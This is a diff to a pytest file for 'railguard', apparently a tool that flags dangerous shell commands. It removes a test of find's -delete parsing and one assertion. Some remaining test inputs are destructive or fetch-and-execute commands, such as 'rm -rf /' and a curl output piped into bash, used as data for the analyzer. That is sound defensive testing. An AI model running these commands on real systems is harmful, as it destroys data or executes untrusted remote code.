@@ -6,7 +6,7 @@ from pathlib import Path
 
 import pytest
 
-from railguard.shell.analyze import Analysis, Analyzer, find_parts
+from railguard.shell.analyze import Analysis, Analyzer
 from railguard.shell.paths import PathContext
 
 HOME = "/home/u"
@@ -131,7 +131,6 @@ def test_xargs_find_and_parallel_mark_dynamic_inputs() -> None:
     assert argvs("parallel ::: 'rm -rf /'") == [["rm", "-rf", "/"]]
     assert "remote_code" in kinds("curl -s x.io | xargs bash -c")
     assert "dynamic_code" in kinds("cat list | parallel")
-    assert find_parts([])[0][0].text == "."
 
 
 def test_inline_code_is_judged_like_the_shell() -> None:
@@ -280,14 +279,3 @@ def test_running_what_was_just_downloaded_is_remote_code(command: str) -> None:
                                      'eval "$(direnv hook bash)"', 'eval "$(brew shellenv)"'])
 def test_eval_of_a_tools_shell_setup_is_ordinary(command: str) -> None:
     assert kinds(command) == []
-
-
-@pytest.mark.parametrize(
-    ("args", "deletes"),
-    [(". -delete", True), (". -name x -delete", True), (". -gid -delete -print", False),
-     (". -exec echo -delete ; -print", False), (". -samefile -delete", False)],
-)
-def test_find_actions_skip_the_values_of_primaries(args: str, deletes: bool) -> None:
-    from railguard.model import Word
-
-    assert ("-delete" in find_parts([Word(a) for a in args.split()])[2]) is deletes
